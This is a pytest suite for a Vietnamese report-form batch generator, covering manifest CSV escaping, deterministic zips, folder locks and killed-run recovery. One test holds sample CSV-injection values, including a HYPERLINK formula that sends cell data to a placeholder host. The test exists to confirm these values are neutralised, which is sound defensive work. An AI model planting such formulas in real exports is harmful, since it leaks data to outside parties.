"""Issue 10 point 4: the manifest tells the truth — lock, killed runs, temp files, workers, CSV injection, zip."""

from __future__ import annotations

import csv
import os
import signal
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hostile import children

from dvtemplate.batch import MANIFEST_COLUMNS, run_batch
from dvtemplate.errors import OutputError
from dvtemplate.folderlock import LOCK_NAME, FolderLock, pid_alive
from dvtemplate.output import csv_safe

ROOT = Path(__file__).resolve().parent.parent
PROVINCE = ROOT / "examples" / "ke-hoach-tinh-2026.yaml"
UNITS_CSV = ROOT / "examples" / "don-vi.csv"


def _rows(folder: Path) -> list[list[str]]:
    with open(folder / "manifest.csv", encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _units(tmp_path: Path, count: int) -> Path:
    path = tmp_path / "dv.csv"
    path.write_text("Tên đơn vị,Cấp\n" + "".join(f"Xã Thử {i},xã\n" for i in range(count)), encoding="utf-8")
    return path


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_manifest_headers_vietnamese_and_formula_cells_quoted(tmp_path):
    units = tmp_path / "dv.csv"
    hostile = ['=HYPERLINK("http://x.example/?"&A1;"Bấm")', "+84 xã Hòa", "@SUM(1)", "-1+2 xã"]
    lines = ["Tên đơn vị;Cấp"] + [f'"{name.replace(chr(34), chr(34) * 2)}";xã' for name in hostile]
    units.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run_batch(PROVINCE, units, "2026-Q2", tmp_path / "o", jobs=1)
    assert result.ok, result.problems
    rows = _rows(tmp_path / "o")
    assert tuple(rows[0]) == MANIFEST_COLUMNS == ("Đơn vị", "Tệp", "Hạn gửi", "SHA-256")
    assert [r[0] for r in rows[1:]] == ["'" + name for name in hostile]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_safe_cells():
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("\tx") == "'\tx" and csv_safe("\r=") == "'\r="
    assert csv_safe("Ủy ban nhân dân xã An Bình") == "Ủy ban nhân dân xã An Bình" and csv_safe(None) == ""


def test_zip_is_deterministic(tmp_path):
    a = run_batch(PROVINCE, UNITS_CSV, "2026-Q2", tmp_path / "a", jobs=1, make_zip=True)
    for path in a.files:  # different file times must not change the zip
        os.utime(path, (1_000_000_000, 1_000_000_000))
    time.sleep(1.1)
    b = run_batch(PROVINCE, UNITS_CSV, "2026-Q2", tmp_path / "b", jobs=1, make_zip=True)
    assert a.zip.read_bytes() == b.zip.read_bytes()
    with zipfile.ZipFile(a.zip) as archive:
        names = archive.namelist()
        assert names == sorted(names) and "manifest.csv" in names
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_second_batch_into_a_locked_folder_is_refused(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    with FolderLock(out):  # a live batch (this process) holds the folder
        lock_text = (out / LOCK_NAME).read_text(encoding="utf-8")
        assert lock_text.split()[:2] == [str(os.getpid()), socket.gethostname()]
        with pytest.raises(OutputError) as info:
            run_batch(PROVINCE, UNITS_CSV, "2026-Q2", out, jobs=1, force=True)
        assert "đang ghi vào thư mục" in str(info.value) and str(os.getpid()) in str(info.value)
    assert not (out / LOCK_NAME).exists()
    assert sorted(p.name for p in out.iterdir()) == []


def test_two_batches_at_once_one_refused_manifest_complete(tmp_path):
    units = _units(tmp_path, 600)
    out = tmp_path / "o"
    cmd = [sys.executable, "-m", "dvtemplate", "batch", str(PROVINCE), "--units", str(units), "--period", "2026"]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    procs = [
        subprocess.Popen(
            [*cmd, "-o", str(out), "--jobs", "1"], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
        )
        for _ in range(2)
    ]
    results = [(p.communicate(timeout=240)[1].decode(), p.returncode) for p in procs]
    results = [(code, err) for err, code in results]
    codes = sorted(code for code, _ in results)
    assert codes in ([0, 1], [0, 0]), results  # [0, 0]: the second ran after the first and found it all unchanged
    for code, err in results:
        assert "Traceback" not in err and (code == 0 or "đang ghi vào thư mục" in err), err
    rows = _rows(out)[1:]
    assert len(rows) == 600 and {r[1] for r in rows} == {p.name for p in out.glob("*.docx")}
    assert not (out / LOCK_NAME).exists()


def test_stale_lock_taken_over_with_a_warning(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    (out / LOCK_NAME).write_text(f"{_dead_pid()} {socket.gethostname()} 0\n", encoding="utf-8")
    (out / ".~dv-abc123.docx").write_bytes(b"half")
    result = run_batch(PROVINCE, UNITS_CSV, "2026-Q2", out, jobs=1)  # no --force needed after a killed run
    assert any("dừng giữa chừng" in w for w in result.warnings)
    assert not list(out.glob(".~dv-*")) and not (out / LOCK_NAME).exists()
    (out / ".~dv-xyz.docx").write_bytes(b"half")
    run_batch(PROVINCE, UNITS_CSV, "2026-Q2", out, jobs=1, force=True)
    assert not list(out.glob(".~dv-*"))


def test_pid_alive():
    assert pid_alive(os.getpid()) and not pid_alive(_dead_pid()) and not pid_alive(0)


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_killed_force_rerun_leaves_no_old_manifest_no_workers(tmp_path, sig):
    units = _units(tmp_path, 3000)
    out = tmp_path / "o"
    first = run_batch(PROVINCE, UNITS_CSV, "2026", out, jobs=1)
    assert (out / "manifest.csv").exists() and len(first.files) == 6
    cmd = [sys.executable, "-m", "dvtemplate", "batch", str(PROVINCE), "--units", str(units), "--period", "2026"]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.Popen([*cmd, "-o", str(out), "--force", "--jobs", "2"], env=env, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    workers: list[int] = []
    while time.monotonic() < deadline and len(list(out.glob("BC-2026-Xa-Thu-*.docx"))) < 100:
        workers = children(proc.pid) or workers
        time.sleep(0.05)
    workers = children(proc.pid) or workers
    assert proc.poll() is None and workers, "the batch ended before it could be killed"
    os.kill(proc.pid, sig)
    proc.wait(timeout=30)
    time.sleep(2.5)  # workers notice a dead parent within PARENT_POLL_S
    alive = [pid for pid in workers if pid_alive(pid) and "Z" not in Path(f"/proc/{pid}/stat").read_text().split()[2]]
    assert not alive, f"workers still running after the parent got signal {sig}"
    assert not (out / "manifest.csv").exists()  # the old manifest went before the first new form
    again = [*cmd, "-o", str(out), "--jobs", "2"] + (["--force"] if sig == signal.SIGTERM else [])
    code = subprocess.run(again, env=env, capture_output=True, text=True)  # after kill -9: resumes, no --force
    assert code.returncode == 0, code.stderr
    if sig == signal.SIGKILL:
        assert "dừng giữa chừng" in code.stderr
    rows = _rows(out)[1:]
    assert len(rows) == 3000 and not list(out.glob(".~dv-*")) and not (out / LOCK_NAME).exists()
